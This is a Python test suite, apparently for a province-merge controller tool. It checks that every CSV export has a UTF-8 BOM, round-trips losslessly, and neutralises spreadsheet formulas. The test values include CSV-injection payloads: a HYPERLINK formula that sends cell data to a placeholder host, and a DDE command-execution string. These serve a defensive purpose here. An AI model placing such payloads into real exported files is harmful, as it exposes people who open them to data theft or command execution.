"""Every CSV the product writes: UTF-8 with a BOM, no cell a spreadsheet runs as a formula, lossless."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controller.cli import main
from controller.csvwrite import BOM, csv_text, neutralise, restore
from controller.manifests.csvform import from_csv, to_csv

ROOT = Path(__file__).resolve().parent.parent
FIXTURE = Path(__file__).parent / "fixtures" / "import" / "small.csv"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("   =1", "'   =1"),
        ("'=1", "''=1"),  # already quoted by someone: one more, so that reading gives it back
        ("-5", "-5"),  # a number cannot be a formula
        ("+84", "+84"),
        ("1.5e3", "1.5e3"),
        ("Nguyễn Thanh Phương", "Nguyễn Thanh Phương"),
        ("10.0.0.1/31", "10.0.0.1/31"),
        ("", ""),
        (None, ""),
    ],
)
def test_formulas_are_quoted_and_plain_values_are_not(value: object, cell: str) -> None:
    assert neutralise(value) == cell


@given(st.text())
def test_restore_inverts_neutralise_for_any_text(value: str) -> None:
    assert restore(neutralise(value)) == value


@given(st.text(alphabet="=+-@'\t\r 0123456789.eE", max_size=8))
def test_no_written_cell_starts_a_formula(value: str) -> None:
    cell = neutralise(value)
    number = re.fullmatch(r"[+-]?(?:\d+(?:[.,]\d+)*|\.\d+)(?:[eE][+-]?\d+)?", cell)
    assert number or not re.match(r"\s*[=+\-@]|[\t\r]", cell)


def test_text_starts_with_a_bom_and_reads_back_with_quoting_undone() -> None:
    text = csv_text(["full_name", "note"], [{"full_name": "=HYPERLINK(\"x\")", "note": "Đắk Lắk"}])
    assert text.startswith(BOM) and text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert rows == [["full_name", "note"], ["'=HYPERLINK(\"x\")", "Đắk Lắk"]]
    assert [restore(cell) for cell in rows[1]] == ["=HYPERLINK(\"x\")", "Đắk Lắk"]


def test_unknown_columns_and_short_rows_are_bugs() -> None:
    with pytest.raises(ValueError):
        csv_text(["a"], [{"b": 1}])
    with pytest.raises(ValueError):
        csv_text(["a", "b"], [("x",)])


def test_manifest_csv_form_round_trips_formula_like_strings() -> None:
    document = {"unit": {"name": "=1+1", "note": "'@x", "count": -3}}
    assert from_csv(to_csv(document)) == document
    assert "'=1+1" not in to_csv(document)  # the JSON text of a string starts with a quote


def test_mapping_csv_round_trips_a_formula_like_unit_name(tmp_path: Path) -> None:
    source = FIXTURE.read_text(encoding="utf-8")
    first_row = source.splitlines()[1]
    old_unit = first_row.split(",")[2]
    tampered = tmp_path / "tampered.csv"
    tampered.write_text(source.replace(f",{old_unit},", f",=cmd {old_unit},", 1), encoding="utf-8")
    out = tmp_path / "ws"
    assert main(["import", "--csv", str(tampered), "-o", str(out)]) == 0
    assert main(["export-csv", str(out), "-o", str(tmp_path / "back.csv")]) == 0
    written = (tmp_path / "back.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbf")
    assert f",'=cmd {old_unit},".encode() in written
    again = tmp_path / "again"
    assert main(["import", "--csv", str(tmp_path / "back.csv"), "-o", str(again)]) == 0
    assert f"=cmd {old_unit}" in (again / "mapping.yml").read_text(encoding="utf-8")


def test_export_csv_to_standard_output_has_no_bom(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "ws"
    assert main(["import", "--csv", str(FIXTURE), "-o", str(out)]) == 0
    capsys.readouterr()
    assert main(["export-csv", str(out), "-o", "-"]) == 0
    assert capsys.readouterr().out.startswith("old_province,")


def test_every_csv_writer_goes_through_the_shared_one() -> None:
    """A new writer that bypasses controller.csvwrite would bring formulas and mojibake back."""
    offenders = []
    sources = [*ROOT.glob("controller/**/*.py"), *ROOT.glob("lab/**/*.py"), *ROOT.glob("filter_plugins/*.py")]
    for path in sources:
        if path.name == "csvwrite.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    # Reports for people are the controller's (mergectl collect writes the lines to return):
    # a role that templated a CSV would bypass the writer.
    offenders += [str(path.relative_to(ROOT)) for path in ROOT.glob("roles/*/templates/*.csv*")]
    assert offenders == []


def test_every_csv_of_every_export_has_a_bom_and_no_formula_cell(
    rendered_binh_thuan: Path, tmp_path: Path
) -> None:
    """The issue's case: `=HYPERLINK(...)` typed as a name reaches no CSV as a formula."""
    import shutil

    from controller.commands.export import discover

    workspace = tmp_path / "bt"
    shutil.copytree(rendered_binh_thuan, workspace)
    mapping = workspace / "mapping.yml"
    # A unit name with a formula, as a pasted spreadsheet cell would bring it.
    text = mapping.read_text(encoding="utf-8")
    name = re.search(r"name: (Phường [^\n]+)", text)
    assert name
    formula = '=HYPERLINK("http://x.example","Bấm")'
    mapping.write_text(text.replace(name.group(1), formula, 1), encoding="utf-8")
    staff = tmp_path / "staff.csv"
    staff.write_text(
        "commune_code,full_name,position,username\n"
        "22918,\"=HYPERLINK(\"\"http://x\"\")\",Chuyên viên,hyperlink\n",
        encoding="utf-8",
    )
    assert main(["accounts", "import", str(workspace), "--staff", str(staff)]) == 0
    assert main(["inventory", "-q", "--allow-mass-change", str(workspace)]) == 0
    # The video-conference lists are made from the survey's registers.
    for kind in ("equipment", "vc_endpoints"):
        sheet = ROOT / "tests" / "fixtures" / "survey" / f"{kind}.csv"
        assert main(["survey", "import", str(workspace), "--kind", kind, str(sheet)]) == 0
    for name in discover():
        assert main(["export", name, str(workspace)]) == 0, name
    assert main(["export-csv", str(workspace)]) == 0
    written = sorted((workspace / "reports").rglob("*.csv"))
    assert len(written) >= 7
    formula_seen = False
    for path in written:
        data = path.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), path
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for cell in row:
                formula_seen |= "HYPERLINK" in cell
                assert not re.match(r"\s*[=+@]|[\t\r]", cell), (path, cell)
                assert not re.match(r"-(?!\d+(\.\d+)?$)", cell), (path, cell)
    assert formula_seen
